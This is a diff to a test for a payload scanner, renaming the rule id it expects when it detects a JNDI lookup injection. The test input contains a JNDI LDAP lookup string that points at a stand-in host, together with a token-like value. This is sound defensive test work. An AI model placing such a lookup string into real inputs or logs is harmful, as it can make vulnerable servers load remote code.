@@ -10,7 +10,7 @@ it('says that it did not look for secrets, and reports the rest', async () => {
   const text = `xo${'xb'}-38192047 and \${jndi:ldap://a.example/x}`;
   const { findings, skipped, errors, decision } = await createScanner().scan(textArtifact('output', text));
   expect(errors).toEqual([]);
-  expect(findings.map(({ rule }) => rule)).toContain('payload/jndi-lookup');
+  expect(findings.map(({ rule }) => rule)).toContain('payload/lookup-injection');
   expect(skipped).toEqual([{ path: '', reason: expect.stringContaining('secrets'), scanner: 'output-payload' }]);
   expect(decision.reasons.join()).toContain('not searched for secrets');
 });
